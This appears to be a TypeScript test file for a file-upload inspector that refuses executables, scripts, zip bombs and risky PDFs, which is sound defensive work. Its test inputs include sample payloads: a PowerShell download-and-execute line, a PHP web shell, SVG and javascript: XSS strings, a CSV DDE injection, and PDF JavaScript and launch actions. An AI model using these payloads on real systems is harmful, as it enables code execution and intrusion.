// Upload inspection against a generated corpus: executables and scripts
// refused with 422 naming what was found, type mismatches with 415, minimal
// valid files accepted; archives looked into within zip-bomb limits.
import { Readable } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import { Writable } from 'node:stream';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { acceptedCorpus, csv, makeZip, pdf, pe, refusedCorpus } from '../../../test/helpers/upload-corpus.js';
import { uploadRefusal } from './errors.js';
import { createUploadInspector, DOCX_TYPE, inspectUpload, type InspectOptions, type UploadVerdict } from './inspect.js';

async function viaBuffer(body: Buffer, opts: InspectOptions): Promise<UploadVerdict> {
  return inspectUpload({ ...opts, head: body.subarray(0, 16 * 1024), readAll: async () => body });
}

/** The streaming inspector, fed in small pieces. */
async function viaStream(body: Buffer, opts: InspectOptions, piece = 1000): Promise<UploadVerdict> {
  const pieces: Buffer[] = [];
  for (let i = 0; i < body.length; i += piece) pieces.push(body.subarray(i, i + piece));
  const inspector = createUploadInspector(opts);
  const out: Buffer[] = [];
  await pipeline(Readable.from(pieces), inspector, new Writable({ write: (c: Buffer, _e, cb) => (out.push(c), cb()) }));
  expect(Buffer.concat(out).equals(body)).toBe(true); // a pass-through
  return inspector.verdict();
}

async function refusal(p: Promise<unknown>) {
  try {
    await p;
  } catch (e) {
    const r = uploadRefusal(e);
    if (r === null) throw e;
    return { ...r, message: (e as Error).message };
  }
  throw new Error('accepted');
}

describe('upload inspection', () => {
  it.each([['buffer', viaBuffer], ['stream', viaStream]] as const)('refuses the corpus (%s)', async (_name, inspect) => {
    for (const item of await refusedCorpus()) {
      const r = await refusal(inspect(item.body, { declaredType: item.declaredType }));
      expect({ name: item.name, code: r.code, status: r.status }).toEqual({ name: item.name, code: item.code, status: item.status });
      expect(r.detected, item.name).toMatch(item.detected);
    }
  });

  it.each([['buffer', viaBuffer], ['stream', viaStream]] as const)('accepts minimal valid files (%s)', async (_name, inspect) => {
    const types: string[] = [];
    for (const item of acceptedCorpus()) types.push((await inspect(item.body, { declaredType: item.declaredType, fileName: item.fileName })).type);
    expect(types).toEqual(['application/pdf', 'image/png', 'image/jpeg', 'text/csv']);
  });

  it('accepts a docx by its parts and names the container', async () => {
    const docx = await makeZip([
      ['[Content_Types].xml', Buffer.from('<?xml version="1.0"?><Types/>')],
      ['_rels/.rels', Buffer.from('<?xml version="1.0"?><Relationships/>')],
      ['word/document.xml', Buffer.from('<?xml version="1.0"?><w:document><w:body/></w:document>')],
    ]);
    expect(await viaStream(docx, { declaredType: DOCX_TYPE })).toMatchObject({ type: DOCX_TYPE, kind: 'archive', entries: 3 });
    expect((await refusal(viaBuffer(docx, { declaredType: 'application/pdf' }))).code).toBe('VAULT_UPLOAD_TYPE_MISMATCH');
  });

  it('refuses a plain zip as a type not allowed, and an archive with no content to look into', async () => {
    const zip = await makeZip([['a.txt', Buffer.from('hello')]]);
    expect(await refusal(viaBuffer(zip, { declaredType: 'application/zip' }))).toMatchObject({ code: 'VAULT_UPLOAD_TYPE_NOT_ALLOWED', status: 415 });
    const noBody = await refusal(inspectUpload({ declaredType: 'application/zip', head: zip }));
    expect(noBody.code).toBe('VAULT_UPLOAD_ARCHIVE_UNSAFE');
  });

  it('looks into nested zips and refuses too deep nesting, too many entries and bomb ratios', async () => {
    const inner = await makeZip([['payload.bin.txt', pe()]]);
    const outer = await makeZip([['inner.zip', inner]]);
    expect(await refusal(viaBuffer(outer, { declaredType: 'application/zip' }))).toMatchObject({ code: 'VAULT_UPLOAD_EXECUTABLE' });
    const deep = await makeZip([['l2.zip', outer]]);
    expect((await refusal(viaBuffer(deep, { declaredType: 'application/zip' }))).detected).toMatch(/nested/);
    const many = await makeZip(Array.from({ length: 30 }, (_, i) => [`f${i}.txt`, Buffer.from('x')] as [string, Buffer]));
    const r = await refusal(viaBuffer(many, { declaredType: 'application/zip', zipLimits: { maxEntries: 20 } }));
    expect(r).toMatchObject({ code: 'VAULT_UPLOAD_ARCHIVE_UNSAFE', detected: 'more than 20 entries' });
    const bomb = await makeZip([['zeros.txt', Buffer.alloc(8 * 1024 * 1024)]]);
    expect((await refusal(viaBuffer(bomb, { declaredType: 'application/zip' }))).detected).toMatch(/ratio/);
    const big = await refusal(viaBuffer(bomb, { declaredType: 'application/zip', zipLimits: { maxUncompressedBytes: 1024 } }));
    expect(big.detected).toMatch(/uncompressed/);
  });

  it('refuses a malformed zip', async () => {
    const zip = await makeZip([['a.txt', Buffer.from('hello')]]);
    const broken = Buffer.concat([zip.subarray(0, 30), Buffer.alloc(50)]);
    expect((await refusal(viaBuffer(broken, { declaredType: 'application/zip' }))).code).toBe('VAULT_UPLOAD_ARCHIVE_UNSAFE');
  });

  it('refuses scripts of every family as text', async () => {
    const scripts: Array<[string, RegExp]> = [
      ['@echo off\r\nset X=1\r\ngoto :end\r\n', /batch/],
      ['$c = New-Object System.Net.WebClient\n$c.DownloadString("http://x") | iex\n', /PowerShell/],
      ['const x = require("child_process");\nx.execSync("id");\n', /JavaScript/],
      ['function run() { document.location = "http://x" }\n', /JavaScript/],
      ['<?php system($_GET["c"]); ?>\n', /script/],
      ['import subprocess\nsubprocess.run(["id"])\n', /script/],
      ['for f in *.txt; do\n  cat "$f"\ndone\n', /shell/],
      ['<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', /event handler/],
      ['<a href="javascript:alert(1)">x</a><html></html>', /script URL/],
      ['name,total\nx,=cmd|\' /C calc\'!A0\n', /DDE/],
    ];
    for (const [text, kind] of scripts) {
      const r = await refusal(viaBuffer(Buffer.from(text), { declaredType: 'text/plain' }));
      expect({ text, code: r.code }).toEqual({ text, code: 'VAULT_UPLOAD_EXECUTABLE' });
      expect(r.detected).toMatch(kind);
    }
  });

  it('refuses PDFs with JavaScript, launch actions or embedded files, also split across chunks or #-escaped', async () => {
    const base = pdf().toString('latin1');
    const withAction = (action: string) => Buffer.from(base.replace('/Type /Catalog', `/Type /Catalog /OpenAction << /S ${action} >>`), 'latin1');
    for (const [action, found] of [['/JavaScript /JS (app.alert(1))', /JavaScript/], ['/Launch /F (cmd.exe)', /Launch/], ['/J#61vaScript', /obfuscated/]] as const) {
      expect((await refusal(viaStream(withAction(action), { declaredType: 'application/pdf' }, 7))).detected).toMatch(found);
      expect((await refusal(viaBuffer(withAction(action), { declaredType: 'application/pdf' }))).code).toBe('VAULT_UPLOAD_EXECUTABLE');
    }
    const embedded = Buffer.from(base.replace('/Type /Catalog', '/Type /Catalog /Names << /EmbeddedFiles 4 0 R >>'), 'latin1');
    expect((await refusal(viaStream(embedded, { declaredType: 'application/pdf' }))).detected).toMatch(/EmbeddedFiles/);
    expect((await viaStream(pdf(), { declaredType: 'application/pdf' }, 5)).type).toBe('application/pdf');
    const font = Buffer.from(base.replace('/Type /Catalog', '/Type /Catalog /BaseFont /Times#20New#20Roman'), 'latin1');
    expect((await viaStream(font, { declaredType: 'application/pdf' })).type).toBe('application/pdf');
  });

  it('refuses executable file names, invalid UTF-8, NUL bytes and script-free HTML as text', async () => {
    expect((await refusal(viaBuffer(csv(), { declaredType: 'text/csv', fileName: 'data.csv.exe' }))).detected).toBe('.exe file name');
    expect((await refusal(viaBuffer(Buffer.from([0x61, 0xff, 0x62]), { declaredType: 'text/plain' }))).code).toBe('VAULT_UPLOAD_TEXT_INVALID');
    expect((await refusal(viaStream(Buffer.from('a,b\n1,\u00002\n'), { declaredType: 'text/csv' }))).detected).toBe('NUL byte');
    expect((await refusal(viaStream(Buffer.from('caf\u00e9').subarray(0, 4), { declaredType: 'text/plain' }))).code).toBe('VAULT_UPLOAD_TEXT_INVALID');
    expect((await refusal(viaBuffer(Buffer.from('<!doctype html><html><p>hi</p></html>'), { declaredType: 'text/plain' }))).code).toBe('VAULT_UPLOAD_TYPE_MISMATCH');
  });

  it('does not flag ordinary prose and CSV', async () => {
    const texts = [
      'Dear team,\nplease find the figures below. If you agree, then we are done.\nRegards, Ada\n',
      'id,name,city,amount\n1,Jörg Müller,Köln,12.00\n2,"Smith, Jane",London,-3.5\n3,Søren,København,+7\n',
      'Meeting notes\n- set up the new office\n- start date: Monday\n- copy the keys\n',
      'Price list: $5 for tea, $7 for coffee.\nDo not forget: done is better than perfect.\n',
    ];
    for (const t of texts) expect((await viaBuffer(Buffer.from(t), { declaredType: 'text/plain' })).kind).toBe('text');
  });

  it('never calls valid UTF-8 invalid, however the stream cuts its characters', async () => {
    await fc.assert(
      fc.asyncProperty(fc.string({ unit: 'binary', maxLength: 400 }), fc.integer({ min: 1, max: 7 }), async (text, piece) => {
        const body = Buffer.from(text.replaceAll('\u0000', ' '), 'utf8');
        try {
          await viaStream(body, { declaredType: 'text/plain' }, piece);
        } catch (e) {
          expect(uploadRefusal(e)?.code).not.toBe('VAULT_UPLOAD_TEXT_INVALID');
        }
      }),
      { numRuns: 200 },
    );
  });

  it('answers random bytes with a verdict or a coded refusal, never a crash', async () => {
    await fc.assert(
      fc.asyncProperty(fc.uint8Array({ maxLength: 600 }), fc.constantFrom('text/plain', 'image/png', 'application/pdf'), async (bytes, type) => {
        try {
          await viaStream(Buffer.from(bytes), { declaredType: type });
        } catch (e) {
          expect(uploadRefusal(e)).not.toBeNull();
        }
      }),
      { numRuns: 200 },
    );
  });
});
